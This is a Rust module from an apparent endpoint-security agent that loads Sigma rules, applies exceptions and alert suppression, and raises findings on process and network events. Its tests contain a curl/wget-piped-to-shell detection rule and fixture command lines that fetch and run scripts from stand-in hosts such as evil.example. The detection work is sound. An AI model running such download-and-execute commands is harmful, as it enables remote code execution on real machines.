//! The loaded rule set and what it raises.

use edgeguard_analyzer_sdk::fingerprint;
use edgeguard_analyzer_sdk::prelude::*;
use edgeguard_analyzer_sdk::tuning::glob;
use edgeguard_sigma::edgeguard::{Source, source_of};
use edgeguard_sigma::{Event as _, Level, Rule};
use serde_json::Value;
use std::path::Path;

/// Rules evaluated, at most (each is tried against every event of its kind).
pub const MAX_RULES: usize = 4096;
/// Rule files read from `dirs`, at most, and how deep.
pub const MAX_FILES: usize = 4096;
const MAX_DEPTH: usize = 16;
/// Exceptions per rule, and fields per exception, at most.
const MAX_EXCEPTIONS: usize = 1024;
const MAX_EXCEPTION_FIELDS: usize = 16;
/// Lines of the reported rule set, at most (a directory of thousands of Windows rules must not
/// swell the twin's reported properties).
const MAX_STATUSES: usize = 1024;
/// The default quiet time of a rule for one process (or peer) after it raised.
const SUPPRESS_MS: u64 = 600_000;

/// Settings the configuration takes.
const SETTINGS: [&str; 5] = ["rules", "dirs", "disabled", "except", "suppress"];

/// Falco-style exceptions: tuples of (field, pattern), any one of which silences a rule.
type Tuples = Vec<Vec<(String, String)>>;

/// One rule that runs.
struct Loaded {
    rule: Rule,
    source: Source,
    /// Its `id`, else its title: what `disabled` and `except` name.
    key: String,
    /// The finding's name: `Sigma` and the title's words.
    name: String,
    except: Tuples,
}

/// The rule set, and what it keeps between calls.
pub struct Sigma {
    rules: Vec<Loaded>,
    statuses: Vec<RuleStatus>,
    /// Statuses past [`MAX_STATUSES`], counted.
    more_statuses: usize,
    suppress_ms: u64,
    quiet: Quiet,
}

/// `Sigma` and the title's ASCII letters and digits, each word capitalised, at most 64.
fn finding_name(title: &str) -> String {
    let mut name = String::from("Sigma");
    for word in title.split(|c: char| !c.is_ascii_alphanumeric()) {
        let mut chars = word.chars();
        if let Some(first) = chars.next() {
            name.push(first.to_ascii_uppercase());
            name.extend(chars);
        }
    }
    name.truncate(64);
    name
}

fn severity(level: Level) -> Severity {
    match level {
        Level::Informational => Severity::Informational,
        Level::Low => Severity::Low,
        Level::Medium => Severity::Medium,
        Level::High | Level::Critical => Severity::High,
    }
}

fn level_name(level: Level) -> &'static str {
    match level {
        Level::Informational => "informational",
        Level::Low => "low",
        Level::Medium => "medium",
        Level::High => "high",
        Level::Critical => "critical",
    }
}

/// `except`: by rule id or title, lists of `{field: pattern}` (Sigma field names, `*` globs).
fn exceptions(value: Option<&Value>) -> Result<Vec<(String, Tuples)>, CollectError> {
    let Some(value) = value else {
        return Ok(Vec::new());
    };
    let Value::Object(map) = value else {
        return Err(CollectError::config(
            "except",
            format!("expected an object by rule, got {value}"),
        ));
    };
    let mut out = Vec::new();
    for (rule, list) in map {
        let at = format!("except.{rule}");
        let items = match list {
            Value::Array(items) if items.len() <= MAX_EXCEPTIONS => items,
            Value::Array(_) => {
                return Err(CollectError::config(
                    &at,
                    format!("at most {MAX_EXCEPTIONS} exceptions"),
                ));
            }
            other => {
                return Err(CollectError::config(
                    &at,
                    format!("expected a list of objects, got {other}"),
                ));
            }
        };
        let mut tuples = Vec::new();
        for item in items {
            let fields = match item {
                Value::Object(f) if !f.is_empty() && f.len() <= MAX_EXCEPTION_FIELDS => f,
                other => {
                    return Err(CollectError::config(
                        &at,
                        format!(
                            "expected an object of 1 to {MAX_EXCEPTION_FIELDS} fields, got {other}"
                        ),
                    ));
                }
            };
            let tuple: Result<Vec<(String, String)>, CollectError> = fields
                .iter()
                .map(|(k, v)| match v.as_str() {
                    Some(s) => Ok((k.clone(), s.to_owned())),
                    None => Err(CollectError::config(
                        &format!("{at}.{k}"),
                        format!("expected text, got {v}"),
                    )),
                })
                .collect();
            tuples.push(tuple?);
        }
        out.push((rule.clone(), tuples));
    }
    Ok(out)
}

/// The rule files under `dir` (`*.yml`, `*.yaml`), sorted, with their text.
fn read_dir(dir: &Path, depth: usize, out: &mut Vec<(String, String)>) -> std::io::Result<()> {
    let mut entries: Vec<_> = std::fs::read_dir(dir)?.filter_map(Result::ok).collect();
    entries.sort_by_key(|e| e.file_name());
    for entry in entries {
        let path = entry.path();
        let kind = entry.file_type()?;
        if kind.is_dir() && depth < MAX_DEPTH {
            read_dir(&path, depth + 1, out)?;
        } else if kind.is_file() && path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            if out.len() >= MAX_FILES {
                return Err(std::io::Error::other(format!(
                    "more than {MAX_FILES} rule files"
                )));
            }
            let size = entry.metadata()?.len();
            let text = if size > edgeguard_sigma::MAX_RULE_BYTES as u64 {
                // Said by the loader, which refuses it by its size.
                " ".repeat(edgeguard_sigma::MAX_RULE_BYTES + 1)
            } else {
                std::fs::read_to_string(&path)?
            };
            out.push((path.display().to_string(), text));
        }
    }
    Ok(())
}

impl Sigma {
    /// Loads the rules the configuration names; a setting it cannot take is refused by name,
    /// a rule it cannot run is reported as skipped.
    pub fn from_config(config: &Config) -> Result<Sigma, CollectError> {
        let tuning = Tuning::new(config, &[], &SETTINGS)?;
        let settings = tuning.settings();
        let suppress_ms = settings.duration("suppress", SUPPRESS_MS)?;
        let disabled = settings.strings("disabled")?.unwrap_or_default();
        let except = exceptions(config.get("except"))?;
        let mut texts: Vec<(String, String)> = settings
            .strings("rules")?
            .unwrap_or_default()
            .into_iter()
            .enumerate()
            .map(|(i, text)| (format!("rules[{i}]"), text))
            .collect();
        for dir in settings.strings("dirs")?.unwrap_or_default() {
            read_dir(Path::new(&dir), 0, &mut texts)
                .map_err(|e| CollectError::config("dirs", format!("{dir}: {e}")))?;
        }
        let mut sigma = Sigma {
            rules: Vec::new(),
            statuses: Vec::new(),
            more_statuses: 0,
            suppress_ms,
            quiet: Quiet::default(),
        };
        for (origin, text) in &texts {
            for loaded in Rule::load_all(text) {
                let rule = match loaded {
                    Ok(rule) => rule,
                    Err(e) => {
                        let name = e.title.unwrap_or_else(|| origin.clone());
                        sigma.status(RuleStatus {
                            name,
                            enabled: false,
                            detail: format!("not loaded ({origin}): {}", e.reason),
                        });
                        continue;
                    }
                };
                let key = rule.id.clone().unwrap_or_else(|| rule.title.clone());
                let named = |list: &[String]| list.iter().any(|n| *n == key || *n == rule.title);
                let source = match source_of(&rule) {
                    Ok(source) => source,
                    Err(why) => {
                        sigma.status(RuleStatus {
                            name: key,
                            enabled: false,
                            detail: format!("skipped: {why}"),
                        });
                        continue;
                    }
                };
                if named(&disabled) {
                    sigma.status(RuleStatus::off(&key));
                    continue;
                }
                if sigma.rules.len() >= MAX_RULES {
                    sigma.status(RuleStatus {
                        name: key,
                        enabled: false,
                        detail: format!("skipped: more than {MAX_RULES} rules"),
                    });
                    continue;
                }
                let except: Tuples = except
                    .iter()
                    .filter(|(k, _)| *k == key || *k == rule.title)
                    .flat_map(|(_, tuples)| tuples.iter().cloned())
                    .collect();
                let detail = format!(
                    "{}; {}; {} exceptions; suppressed {} s",
                    level_name(rule.level),
                    source.event(),
                    except.len(),
                    suppress_ms / 1000
                );
                sigma.status(RuleStatus::on(&key, detail));
                sigma.rules.push(Loaded {
                    name: finding_name(&rule.title),
                    rule,
                    source,
                    key,
                    except,
                });
            }
        }
        Ok(sigma)
    }

    fn status(&mut self, status: RuleStatus) {
        if self.statuses.len() < MAX_STATUSES {
            self.statuses.push(status);
        } else {
            self.more_statuses += 1;
        }
    }

    /// The rule set as loaded, for the reported properties.
    pub fn statuses(&self) -> Vec<RuleStatus> {
        let mut out = self.statuses.clone();
        if self.more_statuses > 0 {
            out.push(RuleStatus {
                name: "more".into(),
                enabled: false,
                detail: format!("{} more rules, not listed", self.more_statuses),
            });
        }
        out
    }

    /// The rules running.
    pub fn loaded(&self) -> usize {
        self.rules.len()
    }

    /// The rules read, loaded or not.
    pub fn read(&self) -> usize {
        self.statuses.len() + self.more_statuses
    }

    /// What one item of event `name` (Id `id`) raises at `now`.
    pub fn event(
        &mut self,
        id: &str,
        name: &str,
        item: &[(String, String)],
        now: u64,
    ) -> Vec<Finding> {
        let source = match name {
            "ProcessCreate" => Source::ProcessCreation,
            "ConnectionCreate" => Source::NetworkConnection,
            _ => return Vec::new(),
        };
        let fields = source.read(item);
        let value = |k: &str| item.field(k).unwrap_or_default();
        // One alert per rule and process (its program and command line) or peer, while quiet:
        // hashed once an event matches, not for every event.
        let subject = std::cell::OnceCell::new();
        let subject = || {
            *subject.get_or_init(|| match source {
                Source::ProcessCreation => {
                    fingerprint(&(value("Executable"), value("CommandLine")))
                }
                Source::NetworkConnection => fingerprint(&(
                    value("Executable"),
                    value("RemoteAddress"),
                    value("RemotePort"),
                )),
            })
        };
        let mut out = Vec::new();
        for r in self.rules.iter().filter(|r| r.source == source) {
            if !r.rule.matches(&fields) {
                continue;
            }
            let excepted = r.except.iter().any(|tuple| {
                tuple.iter().all(|(field, pattern)| {
                    fields.field(field).is_some_and(|(v, _)| glob(pattern, v))
                })
            });
            if excepted
                || !self.quiet.speak(
                    &r.key,
                    &format!("{:016x}", subject()),
                    now,
                    self.suppress_ms,
                )
            {
                continue;
            }
            let opt = |k: &str| item.field(k).map(str::to_owned);
            let entities = Entities {
                user_name: opt("UserName"),
                process_id: item.field("ProcessId").and_then(|p| p.parse().ok()),
                executable: opt("Executable"),
                command_line: opt("CommandLine"),
                remote_address: opt("RemoteAddress"),
                remote_port: item.field("RemotePort").and_then(|p| p.parse().ok()),
                ..Entities::none()
            };
            let description = match r.rule.description.trim() {
                "" => format!(
                    "Sigma rule `{}` matched a {} event",
                    r.rule.title,
                    source.event()
                ),
                d => d.to_owned(),
            };
            let mut finding = Finding::alert(&r.name, severity(r.rule.level), &r.rule.title)
                .description(description)
                .remediation("investigate the process and what started it; if it is expected here, add an exception for this rule (`except`)")
                .techniques(r.rule.techniques().into_iter().take(16))
                .cites(id)
                .entities(entities)
                .detail("SigmaRule", r.key.clone())
                .detail("SigmaLevel", level_name(r.rule.level));
            if let Some(status) = &r.rule.status {
                finding = finding.detail("SigmaStatus", status.clone());
            }
            out.push(finding);
        }
        out
    }

    /// Forgets quiet times that are over.
    pub fn tick(&mut self, now: u64) {
        self.quiet.expire(now);
    }

    /// What a new version takes over: who is quiet until when.
    pub fn save(&self) -> Vec<u8> {
        serde_json::to_vec(&self.quiet).unwrap_or_default()
    }

    /// Takes over a saved state.
    pub fn restore(&mut self, state: &[u8]) -> Result<(), serde_json::Error> {
        self.quiet = serde_json::from_slice(state)?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const CURL_SH: &str = "title: Download piped into a shell\nid: 1a2b3c4d-0000-4000-8000-000000000001\nstatus: test\nlevel: high\ntags: [attack.execution, attack.t1059.004]\nlogsource: {category: process_creation, product: linux}\ndetection:\n  download: {CommandLine|contains: [curl, wget]}\n  shell: {CommandLine|contains: ['| sh', '| bash']}\n  condition: download and shell\n";
    const PORT: &str = "title: Connection to a mining pool port\nlevel: medium\nlogsource: {category: network_connection, product: linux}\ndetection:\n  s: {DestinationPort: [3333, 14444], Initiated: 'true'}\n  condition: s\n";
    const WINDOWS: &str = "title: Windows thing\nlogsource: {category: process_creation, product: windows}\ndetection: {s: {Image|endswith: '\\\\cmd.exe'}, condition: s}\n";
    const PARENT: &str = "title: Needs the parent\nlogsource: {category: process_creation, product: linux}\ndetection: {s: {ParentImage|endswith: /sshd}, condition: s}\n";

    fn item(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    fn sigma(config: Value) -> Sigma {
        Sigma::from_config(config.as_object().unwrap()).unwrap()
    }

    #[test]
    fn a_matching_command_line_raises_once_and_others_do_not() {
        let mut s = sigma(json!({"rules": [CURL_SH, PORT, WINDOWS, PARENT, "title: [broken"]}));
        assert_eq!(s.loaded(), 2);
        let statuses = s.statuses();
        assert_eq!(statuses.len(), 5);
        assert!(
            statuses
                .iter()
                .any(|r| r.name == "Windows thing" && !r.enabled && r.detail.contains("windows"))
        );
        assert!(
            statuses
                .iter()
                .any(|r| r.name == "Needs the parent" && r.detail.contains("ParentImage"))
        );
        assert!(
            statuses
                .iter()
                .any(|r| !r.enabled && r.detail.starts_with("not loaded"))
        );
        let bad = item(&[
            ("Executable", "/usr/bin/bash"),
            ("CommandLine", "bash -c curl -s http://x.example/i | sh"),
            ("UserName", "eve"),
            ("ProcessId", "42"),
        ]);
        let found = s.event("e1", "ProcessCreate", &bad, 1000);
        assert_eq!(found.len(), 1);
        let f = &found[0];
        assert_eq!(f.name, "SigmaDownloadPipedIntoAShell");
        assert_eq!(f.severity, Severity::High);
        assert_eq!(f.techniques, ["T1059.004"]);
        assert_eq!(f.evidence, ["e1"]);
        assert_eq!(f.entities.process_id, Some(42));
        assert_eq!(f.entities.user_name.as_deref(), Some("eve"));
        // Quiet for the same process, and a benign command line raises nothing.
        assert!(s.event("e2", "ProcessCreate", &bad, 2000).is_empty());
        let fine = item(&[
            ("Executable", "/usr/bin/curl"),
            ("CommandLine", "curl -o out.tar.gz https://x.example/a"),
        ]);
        assert!(s.event("e3", "ProcessCreate", &fine, 3000).is_empty());
        // After the quiet time the same process raises again.
        assert_eq!(
            s.event("e4", "ProcessCreate", &bad, 1000 + SUPPRESS_MS)
                .len(),
            1
        );
        // Network rules read the connection's fields.
        let out = item(&[
            ("Executable", "/tmp/x"),
            ("RemoteAddress", "198.51.100.7"),
            ("RemotePort", "3333"),
            ("Direction", "Out"),
        ]);
        let inbound = item(&[
            ("Executable", "/tmp/x"),
            ("RemoteAddress", "198.51.100.7"),
            ("RemotePort", "3333"),
            ("Direction", "In"),
        ]);
        assert!(s.event("c0", "ConnectionCreate", &inbound, 0).is_empty());
        let found = s.event("c1", "ConnectionCreate", &out, 0);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].entities.remote_port, Some(3333));
    }

    #[test]
    fn exceptions_disabled_rules_and_bad_settings() {
        let mut s = sigma(json!({
            "rules": [CURL_SH, PORT],
            "disabled": ["Connection to a mining pool port"],
            "except": {"1a2b3c4d-0000-4000-8000-000000000001": [{"CommandLine": "*install.example*"}]},
            "suppress": "1m"
        }));
        assert_eq!(s.loaded(), 1);
        let excepted = item(&[("CommandLine", "curl https://install.example/get | sh")]);
        assert!(s.event("e1", "ProcessCreate", &excepted, 0).is_empty());
        let other = item(&[("CommandLine", "wget -qO- http://evil.example/x | bash")]);
        assert_eq!(s.event("e2", "ProcessCreate", &other, 0).len(), 1);
        assert!(
            s.statuses()
                .iter()
                .any(|r| r.name == "Connection to a mining pool port" && !r.enabled)
        );
        for bad in [
            json!({"rule": [CURL_SH]}),
            json!({"except": {"x": [{"CommandLine": 5}]}}),
            json!({"suppress": "forever"}),
            json!({"dirs": ["/nonexistent/sigma"]}),
        ] {
            assert!(
                Sigma::from_config(bad.as_object().unwrap()).is_err(),
                "{bad}"
            );
        }
    }

    #[test]
    fn rules_are_read_from_directories_and_state_survives_a_swap() {
        let dir = std::env::temp_dir().join(format!("edgeguard-sigma-{}", std::process::id()));
        std::fs::create_dir_all(dir.join("linux")).unwrap();
        std::fs::write(dir.join("linux/curl.yml"), CURL_SH).unwrap();
        std::fs::write(dir.join("notes.txt"), "not a rule").unwrap();
        let mut s = sigma(json!({"dirs": [dir.display().to_string()]}));
        std::fs::remove_dir_all(&dir).unwrap();
        assert_eq!(s.loaded(), 1);
        let bad = item(&[("CommandLine", "curl x | sh")]);
        assert_eq!(s.event("e1", "ProcessCreate", &bad, 0).len(), 1);
        let mut next = sigma(json!({"rules": [CURL_SH]}));
        next.restore(&s.save()).unwrap();
        assert!(
            next.event("e2", "ProcessCreate", &bad, 10).is_empty(),
            "still quiet after the swap"
        );
        assert_eq!(finding_name("a/b: c-d 1"), "SigmaABCD1");
    }
}
